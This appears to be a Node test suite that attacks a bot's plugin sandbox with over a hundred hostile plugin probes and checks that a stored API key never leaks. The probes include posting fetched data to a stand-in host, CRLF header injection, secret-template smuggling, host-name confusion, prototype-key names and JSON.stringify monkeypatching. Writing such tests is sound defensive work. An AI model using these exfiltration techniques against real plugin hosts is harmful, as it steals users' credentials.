import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { startHttpsServer } from "../capabilities/http/fixtures/https-server.ts";
import { credentialOf } from "./credential.ts";
import { echoes, hostile } from "./fixtures/echo-host.ts";
import { isIn } from "./fixtures/every-form.ts";
import { createProbeBench, secret } from "./fixtures/probe-bench.ts";

/*
 * A hundred ways to get a key out. Each asserts that none of the key's encodings is anywhere that a person, the plugin, another host, the log
 * or the database's file shows.
 */

const withKey = "{ secret: 'key', guildId: here, timeoutMs: 2000 }";

/** What a host shows that echoes what it is sent. */
const fromHosts = Object.keys(echoes).map(
  (path) =>
    [`a host that answers with "${path}"`, `return turbot.http.get(base + "${path}", ${withKey});`] as const,
);

/** A plugin does its worst. What it returns is everything that it got. */
const fromPlugins: readonly (readonly [what: string, body: string])[] = [
  [
    "asks another host that it declares",
    `return turbot.http.get("https://other.example:" + port + "/", ${withKey});`,
  ],
  ["asks over http", `return turbot.http.get("http://echo.example:" + port + "/plain", ${withKey});`],
  ["asks on another port", `return turbot.http.get("https://echo.example:8443/plain", ${withKey});`],
  [
    "asks the host's name with a dot",
    `return turbot.http.get("https://echo.example.:" + port + "/plain", ${withKey});`,
  ],
  [
    "asks a name that only begins like it",
    `return turbot.http.get("https://echo.example.other.example:" + port + "/", ${withKey});`,
  ],
  [
    "puts another host before an @",
    `return turbot.http.get("https://echo.example@other.example:" + port + "/", ${withKey});`,
  ],
  [
    "spells the host in capitals",
    `return turbot.http.get("https://ECHO.example:" + port + "/plain", ${withKey});`,
  ],
  [
    "sets the key's header itself",
    `return turbot.http.get(base + "plain", { ...${withKey}, headers: { Authorization: "mine" } });`,
  ],
  [
    "sets it in other letters",
    `return turbot.http.get(base + "plain", { ...${withKey}, headers: { aUTHORIZATION: "{secret}" } });`,
  ],
  [
    "writes {secret} into a header",
    `return turbot.http.get(base, { ...${withKey}, headers: { "X-A": "{secret}", "X-B": "\${secret}" } });`,
  ],
  [
    "writes {secret} into the address",
    `return turbot.http.get(base + "?k={secret}&k=%7Bsecret%7D", ${withKey});`,
  ],
  [
    "writes {secret} into the body",
    `return turbot.http.post(base, { ...${withKey}, body: { k: "{secret}", b: "{base64}" } });`,
  ],
  [
    "writes it into a form",
    `return turbot.http.post(base, { ...${withKey}, body: form({ k: "{secret}" }) });`,
  ],
  [
    "writes it into parts",
    `return turbot.http.post(base, { ...${withKey}, body: multipart({ fields: { k: "{secret}" } }) });`,
  ],
  [
    "breaks a header's line",
    `return turbot.http.get(base, { ...${withKey}, headers: { "X-A": "a\\r\\nX-B: {secret}" } });`,
  ],
  [
    "asks for ranges, to put pieces together",
    `
    const pieces = [];
    for (let from = 0; from < 24; from += 2)
      pieces.push((await turbot.http.get(base + "ranges", { ...${withKey}, headers: { Range: "bytes=" + from + "-" + (from + 1) } })).text());
    return pieces.join("");`,
  ],
  [
    "asks for it compressed",
    `return turbot.http.get(base, { ...${withKey}, headers: { "Accept-Encoding": "gzip, br" } });`,
  ],
  [
    "wants the method TRACE",
    `return turbot.http.post(base, { ...${withKey}, headers: { "X-HTTP-Method-Override": "TRACE" } });`,
  ],
  [
    "asks with each method",
    `
    const got = [];
    for (const method of ["get", "head", "post", "put", "patch", "delete"]) got.push(await turbot.http[method](base, ${withKey}));
    return got;`,
  ],
  ["looks at the headers of HEAD", `return turbot.http.head(base + "header", ${withKey});`],
  ["reads the echo as XML", `return turbot.http.xml(base + "xml", ${withKey});`],
  ["reads the echo as a feed", `return turbot.http.feed(base + "feed", ${withKey});`],
  ["reads an XML echo that is cut into pieces", `return turbot.http.xml(base + "xml-cut", ${withKey});`],
  ["reads a feed that is cut into pieces", `return turbot.http.feed(base + "feed-cut", ${withKey});`],
  ["reads as a feed what is none", `return turbot.http.feed(base + "plain", ${withKey});`],
  ["reads as XML what failed", `return turbot.http.xml(base + "failed", ${withKey});`],
  [
    "asks with another server's key",
    `return turbot.http.get(base + "plain", { secret: "key", guildId: elsewhere });`,
  ],
  ["says no server", `return turbot.http.get(base + "plain", { secret: "key" });`],
  ["says null for a server", `return turbot.http.get(base + "plain", { secret: "key", guildId: null });`],
  ["says a list of servers", `return turbot.http.get(base + "plain", { secret: "key", guildId: [here] });`],
  [
    "says an object for the key",
    `return turbot.http.get(base + "plain", { secret: { id: "key", host: "other.example" }, guildId: here });`,
  ],
  [
    "asks with a key that isn't declared",
    `return turbot.http.get(base + "plain", { secret: "other", guildId: here });`,
  ],
  [
    "asks with a key called __proto__",
    `return turbot.http.get(base + "plain", { secret: "__proto__", guildId: here });`,
  ],
  [
    "asks with a key called constructor",
    `return turbot.http.get(base + "plain", { secret: "constructor", guildId: here });`,
  ],
  [
    "changes its needs while it runs",
    `
    plugin.constructor.needs = { http: ["other.example"], secrets: { key: { host: "other.example", header: "X-Key", name: "Key" } } };
    return turbot.http.get("https://other.example:" + port + "/", ${withKey});`,
  ],
  [
    "changes what goes to the host",
    `
    const stringify = JSON.stringify;
    JSON.stringify = (value, ...more) => {
      const input = value?.input;
      if (input?.url) Object.assign(input, { url: "https://other.example:" + port + "/", credential: true, hosts: ["other.example"] });
      return stringify(value, ...more);
    };
    try { return await turbot.http.get(base + "plain", ${withKey}); } finally { JSON.stringify = stringify; }`,
  ],
  [
    "makes the host's method one of its own",
    `
    const stringify = JSON.stringify;
    JSON.stringify = (value, ...more) => {
      if (value?.method === "http") value.input.method = "TRACE";
      return stringify(value, ...more);
    };
    try { return await turbot.http.get(base + "plain", ${withKey}); } finally { JSON.stringify = stringify; }`,
  ],
  [
    "calls what the host doesn't have",
    `
    const stringify = JSON.stringify;
    const got = [];
    for (const method of ["secret", "secrets", "getSecret", "credential", "secret.get", "fillIn", "typedIn"]) {
      JSON.stringify = (value, ...more) => {
        if (value?.method) value.method = method;
        return stringify(value, ...more);
      };
      try { got.push(await turbot.hasSecret(here, "key")); } catch (error) { got.push(error.message); } finally { JSON.stringify = stringify; }
    }
    return got;`,
  ],
  [
    "asks whether there is one",
    `return [await turbot.hasSecret(here, "key"), await turbot.hasSecret(elsewhere, "key")];`,
  ],
  ["asks whether there is one that isn't declared", `return turbot.hasSecret(here, "../key");`],
  [
    "looks at all it has",
    `return [turbot, plugin, api, Object.getOwnPropertyNames(globalThis), globalThis];`,
  ],
  ["looks at its commands and their data", `return [interaction, plugin.probe];`],
  [
    "looks into its store",
    `return [await turbot.store.keys(""), await turbot.store.get("secret:key"), await turbot.store.get("key")];`,
  ],
  ["takes the host for a picture", `return turbot.files.picture(base + "plain");`],
  [
    "asks many times at once",
    `return Promise.all(Array.from({ length: 15 }, () => turbot.http.get(base + "json", ${withKey})));`,
  ],
  [
    "asks again without the key, where the host shows what it got before",
    `await turbot.http.get(base + "plain", ${withKey}); return turbot.http.get(base + "json");`,
  ],
  [
    "asks again without the key, for it compressed",
    `await turbot.http.get(base + "plain", ${withKey});
    return turbot.http.get(base + "gzip", { headers: { "Accept-Encoding": "gzip" } });`,
  ],
  [
    "asks again without the key, for it in XML",
    `await turbot.http.get(base + "plain", ${withKey}); return turbot.http.xml(base + "xml-cut");`,
  ],
  [
    "asks again without the key, and is led on with it",
    `await turbot.http.get(base + "plain", ${withKey}); return turbot.http.get(base + "to-other-with-key");`,
  ],
  [
    "guesses the key's beginning, to see what is taken out",
    `
    const got = await turbot.http.post(base, { ...${withKey}, body: "k3y&\\"Zq k3y&\\"Zq+/=<8 Zq+/=<8vT" });
    if (!got.text().includes('k3y&"Zq+/=<8')) throw new Error("a guess of a part was taken out");
    return "nothing";`,
  ],
  [
    "logs an error with all that it knows",
    `
    const error = await turbot.http.get(base + "broken", ${withKey}).catch((error) => error);
    turbot.log.error(error, Object.entries(error), error.cause);
    return error;`,
  ],
  [
    "answers with what it got",
    `await interaction.followUp((await turbot.http.get(base + "plain", ${withKey})).text()); return "";`,
  ],
  [
    "sends what it got to another host",
    `
    const got = await turbot.http.get(base + "json", ${withKey});
    return turbot.http.post("https://other.example:" + port + "/", { body: got.text() + JSON.stringify(got.headers) });`,
  ],
];

describe("none of a hundred probes gets a key out:", () => {
  const probes = [...fromHosts, ...fromPlugins];

  test("they are a hundred and more", () => assert.ok(probes.length >= 100, String(probes.length)));

  test("each of them", { timeout: 240_000 }, async (t) => {
    const bench = await createProbeBench(
      t,
      probes.map(([, body]) => body),
    );
    assert.deepEqual(bench.problems, []);
    for (const [at, [what]] of probes.entries()) {
      const got = await bench.run(at);
      assert.match(got, /^"(got|failed) /, what);
      assert.ok(!bench.isOut(), `${what}: ${got.slice(0, 600)}`);
    }
    assert.ok(!bench.isInFiles());
    // The plugin still works, and the key still goes where it belongs.
    assert.match(await bench.run(0), /^"got \[200,.*\[secret\]/);
  });

  test("and each echo is found where nothing is taken out", async (t) => {
    const { port, gate } = await startHttpsServer(t, hostile([]));
    const declared = {
      id: "key",
      host: "echo.example",
      header: "Authorization",
      value: "{secret}",
      name: "Key",
    };
    const scrub = { text: (text: string) => text, bytes: (bytes: Uint8Array) => bytes, isIn: () => false };
    const credential = { ...credentialOf(declared, secret), scrub };
    /** Nothing of it comes through in any case. */
    const isLost =
      /^(xml-cut|feed-cut|gzip|deflate|br|unknown|cookie|header-long|trailers|reason-phrase|broken|cut-off|endless|slow|header-name|etag|to-.*)$/;
    for (const path of Object.keys(echoes).filter((one) => !isLost.test(one))) {
      const url = `https://echo.example:${port}/${path}`;
      const { headers, body } = await gate.request({ method: "GET", url }, ["echo.example"], "probe", {
        credential,
      });
      assert.ok(isIn(secret, JSON.stringify([headers, Buffer.from(body).toString("latin1")])), path);
    }
  });
});
